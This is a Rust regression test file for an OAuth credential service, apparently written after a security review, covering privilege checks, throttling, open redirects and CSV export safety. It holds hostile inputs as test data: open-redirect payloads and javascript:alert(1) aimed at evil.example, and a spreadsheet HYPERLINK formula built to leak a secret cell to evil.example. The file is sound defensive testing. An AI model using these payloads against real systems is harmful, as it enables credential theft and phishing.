//! Regression tests of the security review (issue 9): each test names the hole it closes.
//! They drive the real operations through the REST API, the console and the command line.

use std::time::Duration;

use axum::http::{Method, StatusCode, header};
use keygate::domain::audit::Actor;
use keygate::store::audit::AuditFilter;
use serde_json::{Value, json};

use crate::api_accounts::{administrator, call, caller, manager};
use crate::console::{Browser, PASSWORD, console_user, csrf_of, signed_in_admin};
use crate::console_access::user_id;
use crate::helpers::{Creds, TestApp, eventually, unix_secs};

/// A custom role made by the command-line operator.
async fn role(app: &TestApp, name: &str, permissions: &[&str]) -> String {
    let api = app.api_defining(permissions).await;
    app.state
        .admin
        .create_role(
            &Actor::system(),
            keygate::admin::roles::RoleInput {
                name: name.into(),
                description: String::new(),
                permissions: permissions.iter().map(|p| (*p).to_owned()).collect(),
                api: Some(api),
            },
        )
        .await
        .unwrap()
        .id
}

async fn audit_count(app: &TestApp, action: &str) -> usize {
    app.state
        .admin
        .audit_events(
            &Actor::system(),
            &AuditFilter {
                action: Some(action.into()),
                limit: 1000,
                ..AuditFilter::default()
            },
        )
        .await
        .unwrap()
        .len()
}

fn assert_forbidden_because_of(res: &crate::helpers::Resp, role: &str) {
    assert_eq!(res.status, StatusCode::FORBIDDEN, "{}", res.text());
    let message = res.json()["message"].as_str().unwrap().to_owned();
    assert!(message.contains(role), "{message}");
}

// -- 1. Regenerate (and every other change) is not an account takeover --------------------

#[tokio::test]
async fn a_manager_cannot_take_over_or_change_an_administrator_account() {
    let app = TestApp::spawn().await;
    let victim = app
        .account("root-admin")
        .roles(&["Administrator"])
        .create()
        .await;
    let victim_token = app.token(&victim).await;
    let m = manager(&app).await;
    let path = format!("/api/v1/service-accounts/{}", victim.id);
    let attempts: Vec<(Method, String, Option<Value>)> = vec![
        (
            Method::POST,
            format!("{path}/regenerate"),
            Some(json!({"grace_period_seconds": 86400})),
        ),
        (Method::PATCH, path.clone(), Some(json!({"enabled": false}))),
        (Method::PATCH, path.clone(), Some(json!({"roles": []}))),
        (
            Method::PATCH,
            path.clone(),
            Some(json!({"name": "mine-now"})),
        ),
        (Method::DELETE, format!("{path}/sessions"), None),
        (Method::DELETE, path.clone(), None),
    ];
    for (method, p, body) in attempts {
        let res = call(&app, method.clone(), &p, Some(&m.token), body).await;
        assert_forbidden_because_of(&res, "Administrator");
        assert!(!res.text().contains("kgs_"), "{method} {p} leaked a secret");
    }
    // Nothing changed: the owner's credentials and token still work, roles intact.
    assert_eq!(app.whoami(&victim_token).await.status, StatusCode::OK);
    assert_eq!(app.token_response(&victim).await.status, StatusCode::OK);
    let now = app
        .state
        .admin
        .get_account(&Actor::system(), &victim.id)
        .await
        .unwrap();
    assert_eq!(now.account.client_id, victim.client_id);
    assert_eq!(now.account.name, "root-admin");
    assert!(now.account.enabled);
    assert_eq!(now.roles.len(), 1);
    // A peer holding only what the manager holds can be regenerated.
    let peer = app
        .account("peer")
        .roles(&["Service Account Manager"])
        .create()
        .await;
    let res = call(
        &app,
        Method::POST,
        &format!("/api/v1/service-accounts/{}/regenerate", peer.id),
        Some(&m.token),
        None,
    )
    .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
}

#[tokio::test]
async fn roles_held_through_a_group_count_for_the_takeover_rule() {
    let app = TestApp::spawn().await;
    let admin = administrator(&app).await;
    let group = call(
        &app,
        Method::POST,
        "/api/v1/groups",
        Some(&admin.token),
        Some(json!({"name": "admins", "roles": ["Administrator"]})),
    )
    .await;
    assert_eq!(group.status, StatusCode::CREATED, "{}", group.text());
    let victim = app.account("in-group").create().await;
    let res = call(
        &app,
        Method::PATCH,
        &format!("/api/v1/service-accounts/{}", victim.id),
        Some(&admin.token),
        Some(json!({"groups": ["admins"]})),
    )
    .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
    let m = manager(&app).await;
    let res = call(
        &app,
        Method::POST,
        &format!("/api/v1/service-accounts/{}/regenerate", victim.id),
        Some(&m.token),
        None,
    )
    .await;
    assert_forbidden_because_of(&res, "Administrator");
    // Nor may the manager take the account out of its group (or put others in).
    let res = call(
        &app,
        Method::PATCH,
        &format!("/api/v1/service-accounts/{}", victim.id),
        Some(&m.token),
        Some(json!({"groups": []})),
    )
    .await;
    assert_forbidden_because_of(&res, "Administrator");
}

#[tokio::test]
async fn the_console_refuses_a_manager_regenerating_an_administrator_account() {
    let app = TestApp::spawn().await;
    let victim = app
        .account("root-admin")
        .roles(&["Administrator"])
        .create()
        .await;
    console_user(&app, "manager", &["Service Account Manager"]).await;
    let mut b = Browser::new(&app);
    assert_eq!(
        b.sign_in("manager", PASSWORD).await.status,
        StatusCode::SEE_OTHER
    );
    let csrf = b.csrf().await;
    let res = b
        .post(
            &format!("/settings/service-accounts/{}/regenerate", victim.id),
            &[("csrf", &csrf), ("grace_period_seconds", "86400")],
        )
        .await;
    // Refused, shown on the form that was sent, and nothing handed out.
    assert!(
        [StatusCode::FORBIDDEN, StatusCode::UNPROCESSABLE_ENTITY].contains(&res.status),
        "{}",
        res.status
    );
    assert!(res.text().contains("Administrator"), "{}", res.text());
    assert!(!res.text().contains("kgs_"));
    assert_eq!(app.token_response(&victim).await.status, StatusCode::OK);
    // The command-line operator owns the database and may.
    let new = app.regenerate(&victim, 0).await;
    assert_ne!(new.client_id, victim.client_id);
}

// -- 2. Console users cannot act on more powerful users; nobody locks the console ----------

#[tokio::test]
async fn a_user_manager_cannot_disable_or_demote_an_administrator() {
    let app = TestApp::spawn().await;
    role(&app, "User Manager", &["users:read", "users:write"]).await;
    console_user(&app, "admin", &["Administrator"]).await;
    console_user(&app, "ops", &["User Manager"]).await;
    let admin_id = user_id(&app, "admin").await;
    let mut b = Browser::new(&app);
    assert_eq!(
        b.sign_in("ops", PASSWORD).await.status,
        StatusCode::SEE_OTHER
    );
    let page = b.get("/settings/users").await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text());
    let csrf = csrf_of(&page.text());
    let res = b
        .post(
            &format!("/settings/users/{admin_id}/enabled"),
            &[("csrf", &csrf), ("enabled", "false")],
        )
        .await;
    assert!(res.status.is_client_error(), "{}", res.status);
    assert!(res.text().contains("Administrator"), "{}", res.text());
    let res = b
        .post(
            &format!("/settings/users/{admin_id}/roles"),
            &[("csrf", &csrf)],
        )
        .await;
    assert!(res.status.is_client_error(), "{}", res.status);
    // The administrator is untouched and still signs in.
    assert_eq!(
        Browser::new(&app).sign_in("admin", PASSWORD).await.status,
        StatusCode::SEE_OTHER
    );
    let (_, roles) = app
        .state
        .admin
        .list_users(&Actor::system())
        .await
        .unwrap()
        .into_iter()
        .find(|(u, _)| u.id == admin_id)
        .unwrap();
    assert_eq!(roles.len(), 1);
}

#[tokio::test]
async fn no_change_may_leave_the_console_without_a_user_manager() {
    let app = TestApp::spawn().await;
    let mut b = signed_in_admin(&app).await;
    let admin_id = user_id(&app, "admin").await;
    // The only administrator unticks their own Administrator role: the page says why before
    // saving, and the save is refused.
    let page = b.get(&format!("/settings/users/{admin_id}/roles")).await;
    assert!(
        page.text()
            .contains("only enabled console user who can manage users")
    );
    let csrf = csrf_of(&page.text());
    let res = b
        .post(
            &format!("/settings/users/{admin_id}/roles"),
            &[("csrf", &csrf)],
        )
        .await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(res.text().contains("users:write"), "{}", res.text());
    // Whoever makes it: the command-line operator cannot disable or demote them either.
    let system = Actor::system();
    let err = app
        .state
        .admin
        .set_user_enabled(&system, &admin_id, false)
        .await
        .unwrap_err();
    assert!(err.to_string().contains("users:write"), "{err}");
    let err = app
        .state
        .admin
        .set_user_roles(&system, &admin_id, &[])
        .await
        .unwrap_err();
    assert!(err.to_string().contains("users:write"), "{err}");
    // Nor delete or empty a custom role that is the last one carrying users:write.
    let custom = role(&app, "User Manager", &["users:read", "users:write"]).await;
    app.state
        .admin
        .set_user_roles(&system, &admin_id, std::slice::from_ref(&custom))
        .await
        .unwrap();
    assert!(
        app.state
            .admin
            .delete_role(&system, &custom, true)
            .await
            .is_err()
    );
    let emptied = keygate::admin::roles::RoleInput {
        name: "User Manager".into(),
        description: String::new(),
        permissions: vec!["users:read".into()],
        api: Some(keygate::domain::access::KEYGATE_API_ID.into()),
    };
    assert!(
        app.state
            .admin
            .update_role(&system, &custom, emptied)
            .await
            .is_err()
    );
    // With a second user manager, the first may go.
    console_user(&app, "second", &["Administrator"]).await;
    app.state
        .admin
        .set_user_enabled(&system, &admin_id, false)
        .await
        .unwrap();
}

#[tokio::test]
async fn admin_grant_recovers_a_console_nobody_can_manage() {
    let app = TestApp::spawn().await;
    console_user(&app, "auditor", &["Auditor"]).await;
    let run = crate::cli::keygate(
        &app,
        &[
            "admin",
            "grant",
            "--username",
            "auditor",
            "--role",
            "Administrator",
        ],
    )
    .await;
    assert_eq!(run.code, Some(0), "{run:?}");
    let mut b = Browser::new(&app);
    assert_eq!(
        b.sign_in("auditor", PASSWORD).await.status,
        StatusCode::SEE_OTHER
    );
    assert_eq!(b.get("/settings/users").await.status, StatusCode::OK);
}

// -- 3. Role and group ids cannot be shadowed by names -------------------------------------

#[tokio::test]
async fn a_role_or_group_named_like_an_id_is_refused_and_ids_resolve_first() {
    let app = TestApp::spawn().await;
    let admin = administrator(&app).await;
    for name in ["builtin-token-introspector", "builtin-administrator"] {
        let res = call(
            &app,
            Method::POST,
            "/api/v1/roles",
            Some(&admin.token),
            Some(json!({"name": name, "api": "keygate", "permissions": ["audit:read"]})),
        )
        .await;
        assert_eq!(
            res.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{}",
            res.text()
        );
        assert_eq!(res.json()["field"], "name");
        let res = call(
            &app,
            Method::POST,
            "/api/v1/groups",
            Some(&admin.token),
            Some(json!({"name": name})),
        )
        .await;
        assert_eq!(
            res.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{}",
            res.text()
        );
    }
    // A database from before the rule may hold such a decoy: the id still wins.
    sqlx::query(
        "insert into roles (id, name, description, builtin, created_at, updated_at) \
         values ('decoy', 'builtin-token-introspector', '', 0, 0, 0)",
    )
    .execute(app.state.store.pool())
    .await
    .unwrap();
    sqlx::query("insert into role_permissions (role_id, permission) values ('decoy', 'x:y')")
        .execute(app.state.store.pool())
        .await
        .unwrap();
    let res = call(
        &app,
        Method::POST,
        "/api/v1/service-accounts",
        Some(&admin.token),
        Some(json!({"name": "reader", "roles": ["builtin-token-introspector"]})),
    )
    .await;
    assert_eq!(res.status, StatusCode::CREATED, "{}", res.text());
    assert_eq!(res.json()["roles"][0]["id"], "builtin-token-introspector");
}

// -- 4. A decoy name cannot divert commands ---------------------------------------------------

#[tokio::test]
async fn names_shaped_like_client_ids_or_ids_are_refused_everywhere() {
    let app = TestApp::spawn().await;
    let admin = administrator(&app).await;
    let other = app.account("target").create().await;
    for name in [
        other.client_id.clone(),
        other.id.clone(),
        "kgs_secretlike".to_owned(),
        "KGP_token".to_owned(),
    ] {
        let res = call(
            &app,
            Method::POST,
            "/api/v1/service-accounts",
            Some(&admin.token),
            Some(json!({ "name": name })),
        )
        .await;
        assert_eq!(
            res.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{name}: {}",
            res.text()
        );
        assert_eq!(res.json()["field"], "name");
        let res = call(
            &app,
            Method::PATCH,
            &format!("/api/v1/service-accounts/{}", admin.creds.id),
            Some(&admin.token),
            Some(json!({ "name": name })),
        )
        .await;
        assert_eq!(
            res.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{name}: {}",
            res.text()
        );
    }
    let run = crate::cli::keygate(
        &app,
        &[
            "service-accounts",
            "create",
            "--name",
            "kgc_AAAAAAAAAAAAAAAAAAAAAA",
        ],
    )
    .await;
    assert_ne!(run.code, Some(0));
    assert!(run.stderr.contains("kgc_"), "{run:?}");
}

#[tokio::test]
async fn the_cli_resolves_an_account_by_id_then_client_id_then_name() {
    let app = TestApp::spawn().await;
    let victim = app.account("victim").create().await;
    // Decoys from a database made before names were checked.
    for (id, name) in [
        ("decoy-1", victim.client_id.as_str()),
        ("decoy-2", victim.id.as_str()),
    ] {
        sqlx::query(
            "insert into service_accounts (id, name, description, enabled, client_id, \
             secret_hash, token_lifetime_secs, token_generation, created_at, updated_at, \
             name_key) values ($1, $2, '', 1, $3, 'x', 3600, 0, 0, 0, lower($2))",
        )
        .bind(id)
        .bind(name)
        .bind(format!("kgc_{id}"))
        .execute(app.state.store.pool())
        .await
        .unwrap();
    }
    for wanted in [victim.client_id.clone(), victim.id.clone()] {
        app.enable(&victim).await;
        let run = crate::cli::keygate(&app, &["service-accounts", "disable", &wanted]).await;
        assert_eq!(run.code, Some(0), "{run:?}");
        assert!(run.stdout.contains(&victim.id), "{run:?}");
        let enabled = |id: &'static str| {
            let app = &app;
            async move {
                app.state
                    .admin
                    .get_account(&Actor::system(), id)
                    .await
                    .unwrap()
                    .account
                    .enabled
            }
        };
        assert!(enabled("decoy-1").await && enabled("decoy-2").await);
    }
    // A name still names its account.
    let run = crate::cli::keygate(&app, &["service-accounts", "enable", "victim"]).await;
    assert_eq!(run.code, Some(0), "{run:?}");
}

// -- 5. A create that commits answers with what it created -------------------------------

#[tokio::test]
async fn a_token_narrowed_to_write_gets_the_secret_of_what_it_created() {
    let app = TestApp::spawn().await;
    let m = app
        .account("automation")
        .roles(&["Service Account Manager"])
        .create()
        .await;
    let res = app
        .post("/oauth/token")
        .basic(&m)
        .form(&[
            ("grant_type", "client_credentials"),
            ("scope", "service-accounts:write"),
        ])
        .send()
        .await;
    let token = res.json()["access_token"].as_str().unwrap().to_owned();
    let res = call(
        &app,
        Method::POST,
        "/api/v1/service-accounts",
        Some(&token),
        Some(json!({"name": "made-by-writer"})),
    )
    .await;
    assert_eq!(res.status, StatusCode::CREATED, "{}", res.text());
    let body = res.json();
    assert!(body["client_secret"].as_str().unwrap().starts_with("kgs_"));
    assert_eq!(body["name"], "made-by-writer");
    let created = Creds {
        id: body["id"].as_str().unwrap().into(),
        name: "made-by-writer".into(),
        client_id: body["client_id"].as_str().unwrap().into(),
        client_secret: body["client_secret"].as_str().unwrap().into(),
    };
    assert_eq!(app.token_response(&created).await.status, StatusCode::OK);
    // Regenerating likewise answers with the new pair.
    let res = call(
        &app,
        Method::POST,
        &format!("/api/v1/service-accounts/{}/regenerate", created.id),
        Some(&token),
        None,
    )
    .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
    assert!(
        res.json()["client_secret"]
            .as_str()
            .unwrap()
            .starts_with("kgs_")
    );
}

// -- 6. Introspection reports what a token allows now -------------------------------------

#[tokio::test]
async fn introspection_reports_the_scope_the_token_allows_now() {
    let app = TestApp::spawn().await;
    role(&app, "Invoices", &["invoices:read"]).await;
    let c = app
        .account("billing")
        .roles(&["Token Introspector", "Auditor", "Invoices"])
        .create()
        .await;
    // Permissions in two APIs: a plain token for keygate's, one for the other with resource.
    let token = app.token(&c).await;
    let invoices = app.token_for(&c, crate::helpers::TEST_API_IDENTIFIER).await;
    let asker = app
        .account("asker")
        .roles(&["Token Introspector"])
        .create()
        .await;
    let before = app.introspect(&asker, &token).await;
    assert_eq!(
        before["scope"],
        "audit:read service-accounts:read tokens:introspect"
    );
    let before = app.introspect(&asker, &invoices).await;
    assert_eq!(before["scope"], "invoices:read");
    assert_eq!(before["aud"], crate::helpers::TEST_API_IDENTIFIER);
    let ids = app
        .state
        .admin
        .role_ids_by_names(&["Token Introspector".into()])
        .await
        .unwrap();
    app.state
        .admin
        .update_account(
            &Actor::system(),
            &c.id,
            keygate::admin::accounts::UpdateAccount {
                role_ids: Some(ids),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    let after = app.introspect(&asker, &token).await;
    assert_eq!(after["active"], true);
    assert_eq!(after["scope"], "tokens:introspect");
    let after = app.introspect(&asker, &invoices).await;
    assert_eq!(after["active"], true, "the account is live");
    assert_eq!(after["scope"], "", "but holds nothing in that API any more");
}

// -- 7. An empty scope parameter is the default scope -------------------------------------

#[tokio::test]
async fn an_empty_scope_parameter_counts_as_absent() {
    let app = TestApp::spawn().await;
    let c = app
        .account("c")
        .roles(&["Token Introspector"])
        .create()
        .await;
    for scope in ["", " "] {
        let res = app
            .post("/oauth/token")
            .basic(&c)
            .form(&[("grant_type", "client_credentials"), ("scope", scope)])
            .send()
            .await;
        assert_eq!(res.status, StatusCode::OK, "{}", res.text());
        assert_eq!(res.json()["scope"], "tokens:introspect");
    }
}

// -- 8. WWW-Authenticate: Basic only when Basic was tried or nothing came ------------------

#[tokio::test]
async fn the_basic_challenge_is_sent_only_after_basic_or_no_authentication() {
    let app = TestApp::spawn().await;
    let c = app.account("c").create().await;
    let post = app
        .post("/oauth/token")
        .form(&[
            ("grant_type", "client_credentials"),
            ("client_id", &c.client_id),
            ("client_secret", "kgs_wrong"),
        ])
        .send()
        .await;
    post.assert_error(StatusCode::UNAUTHORIZED, "invalid_client");
    assert_eq!(post.header(header::WWW_AUTHENTICATE), None);
    let basic = app.token_response(&c.with_secret("kgs_wrong")).await;
    assert!(
        basic
            .header(header::WWW_AUTHENTICATE)
            .unwrap()
            .starts_with("Basic")
    );
    let none = app
        .post("/oauth/token")
        .form(&[("grant_type", "client_credentials")])
        .send()
        .await;
    none.assert_error(StatusCode::UNAUTHORIZED, "invalid_client");
    assert!(
        none.header(header::WWW_AUTHENTICATE)
            .unwrap()
            .starts_with("Basic")
    );
    // The same body every time.
    assert_eq!(post.json(), basic.json());
    assert_eq!(post.json(), none.json());
}

// -- 9. One error shape at /oauth/introspect; RFC 6750 challenges at the REST API ----------

#[tokio::test]
async fn introspection_errors_are_rfc_6749_shaped_and_not_stored() {
    let app = TestApp::spawn().await;
    let res = app
        .post("/oauth/introspect")
        .bearer("not-a-token")
        .form(&[("token", "x")])
        .send()
        .await;
    res.assert_error(StatusCode::UNAUTHORIZED, "invalid_token");
    assert!(res.json()["error_description"].is_string());
    assert_eq!(res.header(header::CACHE_CONTROL), Some("no-store"));
    res.assert_invalid_token();
    let weak = caller(&app, "weak", &[]).await;
    let res = app
        .post("/oauth/introspect")
        .bearer(&weak.token)
        .form(&[("token", "x")])
        .send()
        .await;
    res.assert_error(StatusCode::FORBIDDEN, "insufficient_scope");
    assert!(res.json()["error_description"].is_string());
    assert_eq!(res.header(header::CACHE_CONTROL), Some("no-store"));
}

#[tokio::test]
async fn the_rest_api_challenges_a_missing_token_without_an_error_code() {
    let app = TestApp::spawn().await;
    let res = app.get("/api/v1/whoami").send().await;
    assert_eq!(res.status, StatusCode::UNAUTHORIZED);
    let challenge = res.header(header::WWW_AUTHENTICATE).unwrap();
    assert!(challenge.starts_with("Bearer"), "{challenge}");
    assert!(!challenge.contains("error="), "{challenge}");
    let res = app
        .get("/api/v1/service-accounts")
        .bearer("garbage")
        .send()
        .await;
    res.assert_invalid_token();
}

// -- 10. No open redirect after sign-in ------------------------------------------------------

#[tokio::test]
async fn sign_in_only_ever_returns_to_the_consoles_own_pages() {
    let app = TestApp::spawn().await;
    let mut b = signed_in_admin(&app).await;
    for next in [
        "/%09/evil.example",
        "/%01x",
        "//evil.example",
        "/\\evil.example",
        "https://evil.example/",
        "/%2F%2Fevil.example",
        "/api/v1/whoami",
        "javascript:alert(1)",
    ] {
        let res = b.get(&format!("/login?next={next}")).await;
        assert_eq!(res.status, StatusCode::SEE_OTHER, "{next}");
        assert_eq!(
            res.header(header::LOCATION),
            Some("/settings/service-accounts"),
            "{next}"
        );
    }
    let res = b.get("/login?next=/settings/roles").await;
    assert_eq!(res.header(header::LOCATION), Some("/settings/roles"));
}

// -- 11 and 12. The sign-in throttle ---------------------------------------------------------

#[tokio::test]
async fn concurrent_wrong_passwords_cannot_pass_the_limit() {
    let app = TestApp::spawn().await;
    console_user(&app, "admin", &["Administrator"]).await;
    let attempts = (0..12).map(|_| {
        let app = &app;
        async move {
            Browser::new(app)
                .sign_in("admin", "wrong password!")
                .await
                .status
        }
    });
    let statuses = futures_util::future::join_all(attempts).await;
    let refused = statuses
        .iter()
        .filter(|s| **s == StatusCode::UNAUTHORIZED)
        .count();
    assert!(refused <= 5, "{statuses:?}");
    // The rest were throttled, or (with every argon2 slot busy) told to come back.
    assert!(
        statuses.iter().all(|s| [
            StatusCode::UNAUTHORIZED,
            StatusCode::TOO_MANY_REQUESTS,
            StatusCode::SERVICE_UNAVAILABLE
        ]
        .contains(s)),
        "{statuses:?}"
    );
    // Many concurrent right passwords are all served or told to retry, never an error.
    let right = (0..16).map(|i| {
        let app = &app;
        async move {
            let addr = std::net::SocketAddr::from(([10, 0, 0, 1 + i], 4000));
            let res = Browser::from_address(app, addr)
                .sign_in("admin", PASSWORD)
                .await;
            (
                res.status,
                res.header(header::RETRY_AFTER).map(str::to_owned),
            )
        }
    });
    for (status, retry) in futures_util::future::join_all(right).await {
        assert!(
            status == StatusCode::SEE_OTHER
                || (status == StatusCode::SERVICE_UNAVAILABLE && retry.is_some()),
            "{status} {retry:?}"
        );
    }
}

#[tokio::test]
async fn an_attacker_elsewhere_cannot_lock_the_real_user_out_and_throttling_is_audited_once() {
    let app = TestApp::spawn().await;
    console_user(&app, "admin", &["Administrator"]).await;
    let attacker = std::net::SocketAddr::from(([203, 0, 113, 9], 5555));
    let owner = std::net::SocketAddr::from(([198, 51, 100, 7], 5555));
    for _ in 0..5 {
        let res = Browser::from_address(&app, attacker)
            .sign_in("admin", "wrong password!")
            .await;
        assert_eq!(res.status, StatusCode::UNAUTHORIZED);
    }
    for _ in 0..30 {
        let res = Browser::from_address(&app, attacker)
            .sign_in("admin", PASSWORD)
            .await;
        assert_eq!(res.status, StatusCode::TOO_MANY_REQUESTS);
        assert!(res.header(header::RETRY_AFTER).is_some());
    }
    let res = Browser::from_address(&app, owner)
        .sign_in("admin", PASSWORD)
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.text());
    assert_eq!(audit_count(&app, "console_user.sign_in_throttled").await, 1);
    assert_eq!(audit_count(&app, "console_user.sign_in_failed").await, 5);
}

// -- 13. No formula in a credential download -------------------------------------------------

#[tokio::test]
async fn csv_downloads_neutralise_cells_that_a_spreadsheet_would_run() {
    let app = TestApp::spawn().await;
    let name = "=HYPERLINK(\"http://evil.example/?s=\"&C2,\"Open\")";
    let creds = app
        .state
        .admin
        .create_account(
            &Actor::system(),
            keygate::admin::accounts::CreateAccount {
                name: name.into(),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    let csv = keygate::web::console::accounts::credentials_csv(&creds).unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[0], format!("'{name}"));
    assert_eq!(&row[2], creds.secret());
}

// -- 14. Files only their owner can read -------------------------------------------------------

#[cfg(unix)]
#[tokio::test]
async fn the_sqlite_files_are_private_and_a_readable_key_file_is_refused() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = std::env::temp_dir().join(format!("keygate-perm-{}", uuid_like()));
    std::fs::create_dir_all(&dir).unwrap();
    let db = dir.join("keygate.db");
    let url = format!("sqlite://{}", db.display());
    let app = keygate::app::App::build(keygate::config::Config::for_database(url.clone()))
        .await
        .unwrap();
    app.admin
        .create_account(
            &Actor::system(),
            keygate::admin::accounts::CreateAccount {
                name: "x".into(),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    for suffix in ["", "-wal", "-shm", ".key"] {
        let p = std::path::PathBuf::from(format!("{}{suffix}", db.display()));
        assert_eq!(mode(&p), 0o600, "{}", p.display());
    }
    app.store.close().await;
    drop(app);
    let key = dir.join("keygate.db.key");
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).unwrap();
    let Err(err) = keygate::app::App::build(keygate::config::Config::for_database(url)).await
    else {
        panic!("a world-readable key file was accepted");
    };
    assert!(err.to_string().contains("chmod 600"), "{err}");
    let _ = std::fs::remove_dir_all(&dir);
}

fn uuid_like() -> String {
    keygate::domain::secret::random_token::<8>()
}

// -- 15. Small correctness bugs -----------------------------------------------------------------

#[tokio::test]
async fn adding_a_console_user_with_an_unknown_or_repeated_role_is_not_an_error_page() {
    let app = TestApp::spawn().await;
    let mut b = signed_in_admin(&app).await;
    let csrf = b.csrf().await;
    let res = b
        .post(
            "/settings/users",
            &[
                ("csrf", &csrf),
                ("username", "newbie"),
                ("password", "a long enough passphrase"),
                ("role", "no-such-role"),
            ],
        )
        .await;
    assert_eq!(
        res.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        res.text()
    );
    assert!(res.text().contains("does not exist"));
    let res = b
        .post(
            "/settings/users",
            &[
                ("csrf", &csrf),
                ("username", "newbie"),
                ("password", "a long enough passphrase"),
                ("role", "builtin-auditor"),
                ("role", "builtin-auditor"),
            ],
        )
        .await;
    assert!(res.status.is_success(), "{} {}", res.status, res.text());
    assert!(!res.text().contains("already exists"));
}

#[tokio::test]
async fn a_users_only_administrator_can_open_console_users() {
    let app = TestApp::spawn().await;
    role(&app, "User Reader", &["users:read"]).await;
    console_user(&app, "people", &["User Reader"]).await;
    let mut b = Browser::new(&app);
    assert_eq!(
        b.sign_in("people", PASSWORD).await.status,
        StatusCode::SEE_OTHER
    );
    let page = b.get("/settings/users").await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text());
    // Only roles that carry keygate permissions are offered to console users.
    role(&app, "Invoices", &["invoices:read"]).await;
    let mut admin = signed_in_admin(&app).await;
    let html = admin.get("/settings/users").await.text();
    assert!(html.contains("Auditor") && !html.contains("Invoices"));
}

#[tokio::test]
async fn names_with_non_ascii_capitals_are_found_and_kept_unique() {
    let app = TestApp::spawn().await;
    let admin = administrator(&app).await;
    app.account("Émile").create().await;
    for q in ["Émile", "émile", "ÉMILE", "mil"] {
        let res = call(
            &app,
            Method::GET,
            &format!(
                "/api/v1/service-accounts?q={}",
                form_urlencoded::byte_serialize(q.as_bytes()).collect::<String>()
            ),
            Some(&admin.token),
            None,
        )
        .await;
        let names: Vec<String> = res.json()["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| i["name"].as_str().unwrap().to_owned())
            .collect();
        assert_eq!(names, vec!["Émile"], "{q}");
    }
    let res = call(
        &app,
        Method::POST,
        "/api/v1/service-accounts",
        Some(&admin.token),
        Some(json!({"name": "émile"})),
    )
    .await;
    assert_eq!(res.status, StatusCode::CONFLICT, "{}", res.text());
    let run = crate::cli::keygate(&app, &["service-accounts", "disable", "ÉMILE"]).await;
    assert_eq!(run.code, Some(0), "{run:?}");
}

#[tokio::test]
async fn a_revoked_token_stays_revoked_through_the_expiry_leeway_on_a_new_instance() {
    let app = TestApp::spawn().await;
    let c = app
        .account("c")
        .roles(&["Token Introspector"])
        .create()
        .await;
    // Expired two seconds ago: still accepted within the five-second leeway.
    let now = unix_secs();
    let token = app.mint(&c, now - 600, now - 2).await;
    assert_eq!(app.whoami(&token).await.status, StatusCode::OK);
    assert_eq!(app.revoke(&c, &token).await.status, StatusCode::OK);
    let other = app.another_instance().await;
    other.whoami(&token).await.assert_invalid_token();
}

#[tokio::test]
async fn expired_console_sessions_are_purged_without_a_sign_out() {
    let app = TestApp::builder().without_follower().start().await;
    console_user(&app, "admin", &["Administrator"]).await;
    let id = user_id(&app, "admin").await;
    sqlx::query(
        "insert into console_sessions (id_hash, user_id, csrf_token, created_at, \
         last_seen_at, expires_at) values ('stale', $1, 'c', 0, 0, 1)",
    )
    .bind(&id)
    .execute(app.state.store.pool())
    .await
    .unwrap();
    let count = || async {
        sqlx::query("select count(*) as n from console_sessions where id_hash = 'stale'")
            .fetch_one(app.state.store.pool())
            .await
            .map(|r| sqlx::Row::get::<i64, _>(&r, "n"))
            .unwrap()
    };
    assert_eq!(count().await, 1);
    // The maintenance of a running instance (at start, then every ten minutes) purges it.
    let _running = app.another_instance().await;
    assert!(eventually(Duration::from_secs(5), async || count().await == 0).await);
}
